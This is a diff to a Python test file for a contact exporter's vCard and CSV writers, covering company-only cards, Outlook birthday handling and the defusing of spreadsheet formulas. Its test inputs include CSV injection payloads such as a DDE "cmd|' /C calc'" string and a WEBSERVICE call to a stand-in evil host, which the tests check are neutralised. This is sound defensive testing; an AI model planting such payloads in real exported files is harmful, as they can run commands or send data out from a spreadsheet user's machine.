@@ -194,6 +194,25 @@ def test_a_bare_contact_has_only_what_it_has() -> None:
     ]
 
 
+@pytest.mark.parametrize("version", vcard_writer.VERSIONS)
+def test_a_company_without_a_person_is_written_as_address_books_write_a_company(
+    version: vcard_writer.Version,
+) -> None:
+    # Its display name is its phone number: in FN that came back as a name, "020 7946" "0000".
+    reception = person(
+        first_name="",
+        last_name="",
+        display_name="020 7946 0000",
+        company="Acme Ltd",
+        emails=(),
+        phones=(("work", "020 7946 0000"),),
+    )
+    lines = unfolded(vcard_writer.card(reception, version))
+    assert "FN:Acme Ltd" in lines
+    assert "N:;;;;" in lines
+    assert "ORG:Acme Ltd" in lines
+
+
 def test_home_address_without_a_company_and_preferences_in_the_note() -> None:
     card = vcard_writer.card(person(company="", preferences="Mornings, please"))
     lines = unfolded(card)
@@ -448,6 +467,9 @@ def test_google_layout(tmp_path: Path) -> None:
     assert (row["Phone 1 - Label"], row["Phone 2 - Label"]) == ("* Mobile", "Weekend house")
     assert (row["Phone 3 - Value"], row["Birthday"]) == ("", "1985-04-15")
     assert row["Address 1 - Label"] == "Work"
+    # Kept as one text, an address has no street of its own to give: it is all in Formatted.
+    assert row["Address 1 - Formatted"] == "Main St 1\n00100 Helsinki"
+    assert row["Address 1 - Street"] == ""
     assert (row["Custom Field 1 - Label"], row["Custom Field 1 - Value"]) == (
         "Lifecycle",
         "customer",
@@ -470,7 +492,7 @@ def test_google_layout(tmp_path: Path) -> None:
 
 def test_outlook_layout(tmp_path: Path) -> None:
     path, data = written(tmp_path, "outlook")
-    header, zoe_row, _ = cells(data)
+    header, zoe_row, other_row = cells(data)
     assert len(header) == 92 and header[:8] == [
         "Title", "First Name", "Middle Name", "Last Name", "Suffix", "Company", "Department",
         "Job Title",
@@ -493,7 +515,9 @@ def test_outlook_layout(tmp_path: Path) -> None:
     assert [value for _, value in first.phones] == ["+358 40 1", "+358 9 2"]
     assert first.birthday == date(1985, 4, 15) and first.tags == ["VIP", "trade fair 2026"]
     assert first.address == "Main St 1\n00100 Helsinki"
-    assert second.birthday is None  # Outlook has no birthday without a year
+    # Outlook needs a year: a birthday without one goes in ours (NO_YEAR), and comes back so.
+    assert dict(zip(header, other_row, strict=True))["Birthday"] == "2/29/1604"
+    assert second.birthday == date(NO_YEAR, 2, 29)
 
 
 def test_outlook_puts_what_does_not_fit_in_the_notes() -> None:
@@ -524,7 +548,10 @@ def test_would_be_formulas_are_written_as_text_and_read_back_as_they_were(
     path = tmp_path / f"{layout}.csv"
     csv_writer.write_csv(path, [[risky]], layout=layout, most=(2, 1), total=1)
     row = cells(path.read_bytes(), ";" if layout == "excel" else ",")[1]
-    for value in ("=HYPERLINK(", "@SUM(A1:A9)", "-2+3", "+cmd|", "=1+1"):
+    formulas = ["=HYPERLINK(", "@SUM(A1:A9)", "+cmd|", "=1+1"]  # each would reach out of its cell
+    if layout in ("ours", "excel"):  # for a spreadsheet: sums too (not for Google or Outlook)
+        formulas.append("-2+3")
+    for value in formulas:
         assert not any(cell.startswith(value) for cell in row), value  # a spreadsheet runs none
         assert any(cell.startswith("'" + value) for cell in row), value
     assert any("+358 40 123 4567" in cell for cell in row)  # a phone number stays as it is
@@ -535,8 +562,60 @@ def test_would_be_formulas_are_written_as_text_and_read_back_as_they_were(
     assert (back.title, back.company) == ("-2+3", "+cmd|' /C calc'!A0")
     assert "=1+1" in back.notes and not back.notes.startswith("'")
     assert [number for _, number in back.phones] == ["+358 40 123 4567"]
-    if layout != "outlook":  # Outlook's layout has no birthday without a year
-        assert back.birthday == date(NO_YEAR, 4, 15)  # "--04-15" is no formula
+    assert back.birthday == date(NO_YEAR, 4, 15)  # "--04-15" (Outlook "4/15/1604") is no formula
+
+
+@pytest.mark.parametrize("layout", ["google", "outlook"])
+def test_google_and_outlook_get_what_is_no_formula_as_it_is(
+    tmp_path: Path, layout: csv_writer.Layout
+) -> None:
+    # Both keep a leading apostrophe as part of the value: "'+Plus GmbH" in the address book.
+    plain = [
+        person(
+            company="+Plus GmbH",
+            title="-2+3",
+            phones=(("work", "+81-3-1234-5678 ext. 123"), ("mobile", "+1 (555) 010-9999 x12")),
+            personal_notes="- call back\n- send the offer",
+        ),
+        person(uid="e" * 32, first_name="@anna", company="@SUM Corp", personal_notes="-5 points"),
+    ]
+    path = tmp_path / f"{layout}.csv"
+    csv_writer.write_csv(path, [plain], layout=layout, most=(2, 2), total=2)
+    rows = cells(path.read_bytes())
+    assert not any(cell.startswith("'") for row in rows for cell in row)
+    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    if layout == "google":
+        assert (first["Organization Name"], first["Organization Title"]) == ("+Plus GmbH", "-2+3")
+        assert first["Phone 1 - Value"] == "+81-3-1234-5678 ext. 123"
+        assert first["Phone 2 - Value"] == "+1 (555) 010-9999 x12"
+        assert (second["First Name"], second["Organization Name"]) == ("@anna", "@SUM Corp")
+    else:
+        assert (first["Company"], first["Job Title"]) == ("+Plus GmbH", "-2+3")
+        assert first["Business Phone"] == "+81-3-1234-5678 ext. 123"
+        assert first["Mobile Phone"] == "+1 (555) 010-9999 x12"
+        assert (second["First Name"], second["Company"]) == ("@anna", "@SUM Corp")
+    assert first["Notes"] == "- call back\n- send the offer"
+    assert second["Notes"] == "-5 points"
+
+
+@pytest.mark.parametrize(
+    ("value", "defused"),
+    [
+        ("=1+1", True),
+        ("= see above", True),
+        ("\t=cmd|' /C calc'!A0", True),
+        ("-cmd|' /C calc'!A0", True),
+        ("@SUM (A1:A9)", True),
+        ('+ _xlfn.WEBSERVICE("https://evil.example")', True),
+        ("+49 (89) 1234-5 ext. 6", False),
+        ("+Plus GmbH", False),
+        ("@SUM Corp", False),
+        ("- call back (today)", False),
+        ("--04-15", False),
+    ],
+)
+def test_what_google_and_outlook_get_defused(value: str, defused: bool) -> None:
+    assert csv_writer.defused_for_import([value]) == ["'" + value if defused else value]
 
 
 def test_the_excel_layout_is_ours_with_semicolons_and_reads_back(tmp_path: Path) -> None:
